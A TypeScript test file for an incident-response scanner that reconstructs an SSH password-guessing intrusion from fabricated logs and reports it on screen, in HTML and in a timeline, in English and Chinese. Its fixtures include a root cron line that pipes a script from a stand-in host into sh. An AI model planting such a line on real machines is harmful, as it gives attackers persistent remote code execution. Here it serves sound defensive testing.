/** How it got in, from the logs of a root folder to what people read: the screen, the page, the timeline, both languages. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { displayWidth } from '../../src/report/width.ts';
import { demine, folderIn, type LabHost, openLabHost } from '../lab/harness.ts';
import type { Finished } from '../lab/host.ts';

let host: LabHost;
beforeAll(async () => {
  host = await openLabHost();
  system('mnt/guessed', `${owner}${failures}${accepted}`, job);
  system('mnt/late', at(1, 'Server listening on 0.0.0.0 port 22.'), job);
  system('mnt/clean', `${owner}${failures}`, '');
});
afterAll(async () => {
  await host.stop();
});

const run = (...args: readonly string[]): Promise<Finished> => demine(host, args);
const attacker = '203.0.113.9';

/** A line of sshd, so many minutes ago. */
function at(minutes: number, message: string): string {
  const time = new Date(Date.now() - minutes * 60_000).toISOString().replace('Z', '+00:00');
  return `${time} web-1 sshd[12]: ${message}\n`;
}
const owner = at(
  3000,
  'Accepted publickey for root from 198.51.100.4 port 50001 ssh2: ED25519 SHA256:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789+/abcde',
);
const failures = Array.from({ length: 40 }, (_, index) =>
  at(40 - index / 4, `Failed password for root from ${attacker} port ${40_000 + index} ssh2`),
).join('');
const accepted = at(2, `Accepted password for root from ${attacker} port 50000 ssh2`);
const job = '* * * * * root curl -fsSL http://192.0.2.66/x.sh | sh\n';

function system(folder: string, log: string, cron: string): void {
  const root = folderIn(host, folder);
  const files: Readonly<Record<string, string>> = {
    'etc/os-release': 'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12"\n',
    'etc/hostname': 'web-1\n',
    'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n',
    'var/log/auth.log': log,
    ...(cron === '' ? {} : { 'etc/cron.d/update': cron }),
    'root/.ssh/known_hosts':
      'db-1,10.20.30.40 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample\ngithub.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample\n',
  };
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), content);
  }
  mkdirSync(join(root, 'usr'), { recursive: true });
}

const pageOf = (name: string): string => readFileSync(join(host.root, `run/${name}/report.html`), 'utf8');
const scanned = (folder: string, name: string, language: 'en' | 'zh-CN'): Promise<Finished> =>
  run('scan', `/mnt/${folder}`, '--out', `/run/${name}`, '--lang', language);

describe('a root folder with its logs', () => {
  test('is told on one screen of 80 columns, on the page and in the timeline', async () => {
    const { stdout } = await scanned('guessed', 'case-guessed', 'en');
    const rows = stdout.trimEnd().split('\n');
    expect(rows.length).toBeLessThanOrEqual(30);
    expect(rows.filter((row) => displayWidth(row) > 80)).toEqual([]);
    expect(stdout).toMatch(/^Way in +confirmed: SSH password guessing · root from 203\.0\.113\.9$/m);
    expect(stdout).toMatch(/^ +infected \d{4}-\d\d-\d\d \d\d:\d\d/m);

    expect(stdout).toMatch(/^At risk +db-1 \(an account here has logged in to it\)$/m);

    const page = pageOf('case-guessed');
    expect(page).toContain('id="neighbours"');
    expect(page).not.toContain('github.com');
    expect(page).toContain('by guessing a password over SSH');
    expect(page).toContain('<svg class="drawn"');
    const ids = new Set([...page.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id));
    const links = [...page.matchAll(/ href="#([^"]*)"/g)].map(([, to]) => to);
    expect(links.filter((to) => !ids.has(to))).toEqual([]);
    expect(page).toMatch(/<tr id="W1-e\d">[\s\S]*?Accepted password for root from 203\.0\.113\.9/);

    const timeline = await run('timeline', '/run/case-guessed', '--lang', 'en');
    expect(timeline.stdout).toContain('Way in   confirmed: SSH password guessing · root from 203.0.113.9');
    const marked = timeline.stdout.split('\n').filter((row) => /^\d{4}-.{14}[ ~]> /.test(row));
    expect(marked.some((row) => row.includes('accepted: root from 203.0.113.9'))).toBe(true);
    expect(marked.some((row) => row.includes('198.51.100.4'))).toBe(false);
  });

  test('says in Chinese that nothing is known where the log begins after it', async () => {
    const { stdout } = await scanned('late', 'case-late', 'zh-CN');
    expect(stdout).toMatch(/^入侵.*途径未知/m);
    expect(pageOf('case-late')).toContain('入侵途径未知');
  });

  test('that is clean says nothing of ways in, whoever knocked', async () => {
    const { stdout } = await scanned('clean', 'case-clean', 'en');
    expect(stdout).not.toContain('Way in');
    expect(stdout).not.toContain('db-1');
    expect(pageOf('case-clean')).not.toContain('id="entry"');
  });
});
